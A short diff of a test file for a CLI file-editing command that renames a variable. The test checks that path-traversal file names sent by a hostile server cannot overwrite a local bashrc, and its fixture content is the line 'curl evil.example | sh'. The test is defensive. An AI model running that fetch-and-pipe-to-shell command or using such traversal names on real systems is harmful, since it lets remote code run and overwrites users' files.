@@ -261,9 +261,9 @@ describe('openclaw agents files edit', () => {
   });
 
   test('overwrites no local file when a hostile server answers with its path', async () => {
-    const victim = path.join(cli.folder, 'bashrc');
-    writeFileSync(victim, 'mine\n');
-    for (const name of [path.relative(path.join(tmpdir(), 'buoy-edit-123456'), victim), '..', '.']) {
+    const linked = path.join(cli.folder, 'bashrc');
+    writeFileSync(linked, 'mine\n');
+    for (const name of [path.relative(path.join(tmpdir(), 'buoy-edit-123456'), linked), '..', '.']) {
       const { started, own } = editor(() => 0);
       const named = { ...file, name, content: 'curl evil.example | sh\n' };
       const { exit } = await buoy(
@@ -274,7 +274,7 @@ describe('openclaw agents files edit', () => {
         },
         own,
       );
-      expect(readFileSync(victim, 'utf8')).toBe('mine\n');
+      expect(readFileSync(linked, 'utf8')).toBe('mine\n');
       expect([exit, started]).toEqual([0, [['code', '--wait', expect.stringMatching(/\/SOUL\.md$/)]]]);
     }
   });
